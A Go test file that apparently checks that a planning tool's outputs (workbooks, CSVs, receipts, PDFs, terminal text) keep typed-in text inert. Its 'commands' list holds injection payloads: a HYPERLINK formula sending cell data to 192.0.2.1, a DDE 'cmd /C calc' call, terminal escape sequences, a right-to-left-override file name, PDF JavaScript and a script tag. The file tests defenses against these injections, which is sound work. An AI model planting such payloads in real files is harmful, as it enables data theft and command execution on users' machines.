package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"spm/engine/spreadsheet"
	"spm/engine/value"
	"spm/engine/workbook/byhand"
)

// Texts that a spreadsheet program, a terminal or a printer would obey, each
// with a mark by which it is found again.
var commands = []string{
	`=HYPERLINK("http://192.0.2.1/?"&A1,"MARK0")`, `+cmd|' /C calc'!A0 MARK1`, `-2+3+MARK2`, `@SUM(MARK3)`,
	"\t=1+MARK4", "\r=1+MARK5", "＝1+MARK6", "＠SUM(MARK7)", "\x1b[2J\x1b]0;owned\x07MARK8", "\u202egnp.exe MARK9", "\u009b2J MARK10",
	"(MARK11) Tj ET /JS (app.alert(1))", `<script>alert("MARK12")</script>`, `"&B&MARK13&"`,
}

// Whatever is typed into a workbook stays a text in all that is made of it: the
// next workbooks, the mailing list, messages, receipts, what a terminal shows,
// the printed report.
func TestTextStaysText(t *testing.T) {
	if testing.Short() {
		t.Skip("it takes long; the full pass runs it")
	}
	t.Run("of the setup", func(t *testing.T) {
		dir, plan := stageCopy(t, 0)
		infect(t, filepath.Join(dir, "setup.xlsx"), filepath.Join(plan, "inbox", "=cmd \u202e\x1b[2J.xlsx"), func(b *byhand.Book, next func() string) {
			check(t, b.Answer("Setup", "S1.1", next()))
			check(t, b.Answer("Setup", "S1.3", next()))
			for _, row := range []string{"G1", "G2", "G3"} {
				check(t, b.Type("Setup Goals", row, "goal", next()))
				check(t, b.Type("Setup Goals", row, "explanation", next()))
			}
			check(t, b.Type("Setup Task Forces", "NEW-TF1", "role", next()))
			check(t, b.Type("Setup Task Forces", "NEW-TF5", "role", next()))
			check(t, b.Type("Setup Task Forces", "R01", "person", next()))
			check(t, b.Type("Setup Task Forces", "R02", "person", next()))
			check(t, b.Type("Setup Task Forces", "R03", "name", next()))
		})
		said := ""
		for _, line := range []string{"ingest", "generate direction", "generate self-assessment", "reconcile", "status", "trace G1"} {
			said += played(t, "2026-03-23", append(strings.Fields(line), "-w", plan)...)
		}
		inspect(t, plan, said)
	})
	t.Run("of a month", func(t *testing.T) {
		dir, plan := stageCopy(t, 4)
		infect(t, filepath.Join(dir, "monthly-U01.xlsx"), filepath.Join(plan, "inbox", "monthly.xlsx"), func(b *byhand.Book, next func() string) {
			for _, code := range []string{"R1.5", "R1.6", "R1.7"} {
				check(t, b.Answer("R1 Monthly", code, next()))
			}
			for _, row := range []string{"A1.1-Y1-01", "A2.1-Y1b-01"} {
				for _, field := range []string{"progress", "output", "challenges", "adjusted", "support"} {
					check(t, b.Type("R1 Monthly", row, field, next()))
				}
			}
			check(t, b.Type("R1 Monthly", "A1.1-Y1-01", "status", "=1+MARK14")) // it has to be mended
		})
		said := ""
		for _, line := range []string{"ingest", "reconcile", "generate roll-up --period 2026-07", "report monthly"} {
			said += played(t, "2026-08-03", append(strings.Fields(line), "-w", plan)...)
		}
		inspect(t, plan, said)
		data, err := os.ReadFile(filepath.Join(plan, "returned", "monthly.txt"))
		if err != nil || !strings.Contains(string(data), "MARK14") {
			t.Errorf("the receipt does not name the text that is to be mended: %v\n%s", err, data)
		}
	})
}

// stageCopy is a folder with the workspace and the workbooks of a stage.
func stageCopy(t *testing.T, stage int) (dir, plan string) {
	t.Helper()
	from, err := stageDir(stage)
	check(t, err)
	dir = t.TempDir()
	check(t, os.CopyFS(dir, os.DirFS(from)))
	return dir, filepath.Join(dir, "plan")
}

// infect opens a workbook, types commands into it, and saves it under another name.
func infect(t *testing.T, file, to string, do func(b *byhand.Book, next func() string)) {
	t.Helper()
	data, err := os.ReadFile(file)
	check(t, err)
	book, err := byhand.Open(data)
	check(t, err)
	n := 0
	do(book, func() string { n++; return commands[(n-1)%len(commands)] })
	data, err = book.Save()
	check(t, err)
	check(t, os.WriteFile(to, data, 0o644))
}

func played(t *testing.T, day value.Date, args ...string) string {
	t.Helper()
	var out bytes.Buffer
	if run(args, &out, &out, day) == exitFailed {
		t.Fatalf("spm %s: %s", strings.Join(args, " "), &out)
	}
	return out.String()
}

// harmless fails on a text that commands whatever shows it.
func harmless(t *testing.T, what, text string) {
	t.Helper()
	if i := strings.IndexFunc(text, value.Commands); i >= 0 {
		t.Errorf("%s has %q", what, text[max(0, i-20):min(len(text), i+20)])
	}
}

// inspect looks at what spm has said, and into every file that it has written
// for people.
func inspect(t *testing.T, plan, said string) {
	t.Helper()
	harmless(t, "what the terminal shows", said)
	seen := map[string]int{} // files with a mark, by ending
	for _, folder := range []string{"outbox", "returned", "reports"} {
		check(t, filepath.WalkDir(filepath.Join(plan, folder), func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			harmless(t, "the name of a file", d.Name())
			data, err := os.ReadFile(path)
			check(t, err)
			marked := bytes.Contains(data, []byte("MARK"))
			switch filepath.Ext(path) {
			case ".xlsx":
				marked = noFormulaOfTheirs(t, path, data)
			case ".csv":
				noFormulaIn(t, path, data)
			case ".txt":
				harmless(t, path, string(data))
			case ".pdf":
				for _, act := range []string{"/JavaScript", "/JS (", "/Launch", "/OpenAction", "/URI (http://192"} {
					if bytes.Contains(data, []byte(act)) {
						t.Errorf("%s has %s", path, act)
					}
				}
			}
			if marked {
				seen[filepath.Ext(path)]++
			}
			return nil
		}))
	}
	if seen[".xlsx"] == 0 || seen[".txt"] == 0 {
		t.Errorf("the texts came nowhere: %v", seen)
	}
}

// obeyed are the places of a workbook that are run or followed.
var obeyed = regexp.MustCompile(`(?s)<(?:f|formula1|formula2|formula|definedName|oddHeader|oddFooter|xm:f)\b[^>]*>[^<]*MARK|Target="[^"]*192\.0\.2\.1`)

// noFormulaOfTheirs looks for commands in what a workbook runs or follows, and
// tells whether it holds any at all.
func noFormulaOfTheirs(t *testing.T, path string, data []byte) (marked bool) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	check(t, err)
	for _, f := range z.File {
		r, err := f.Open()
		check(t, err)
		part, err := io.ReadAll(r)
		check(t, err)
		marked = marked || bytes.Contains(part, []byte("MARK"))
		if m := obeyed.Find(part); m != nil {
			t.Errorf("%s: %s obeys %q", path, f.Name, m)
		}
	}
	book, found := spreadsheet.Open(path, data)
	if book == nil {
		t.Fatal(found)
	}
	for _, s := range book.Sheets {
		harmless(t, "the name of a sheet", s.Name)
	}
	other, err := excelize.OpenReader(bytes.NewReader(data))
	check(t, err)
	check(t, other.Close())
	return marked
}

// noFormulaIn looks at every value of a CSV file.
func noFormulaIn(t *testing.T, path string, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	check(t, err)
	for _, row := range rows {
		for _, v := range row {
			harmless(t, path, v)
			if strings.IndexAny(v, "=+-@\t\r＝＋－＠") == 0 {
				t.Errorf("%s has the formula %q", path, v)
			}
		}
	}
}

// Programs read the same names, whatever is escaped for the eye.
func TestJSONStaysTheSame(t *testing.T) {
	for _, want := range append(commands, "plain", "Ærøskøbing 東京 مرحبا") {
		data, err := json.Marshal(want)
		check(t, err)
		printed := jsonVisible(string(data))
		harmless(t, "JSON", printed)
		var got string
		if err := json.Unmarshal([]byte(printed), &got); err != nil || got != want {
			t.Errorf("%q came back as %q: %v", want, got, err)
		}
	}
}

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
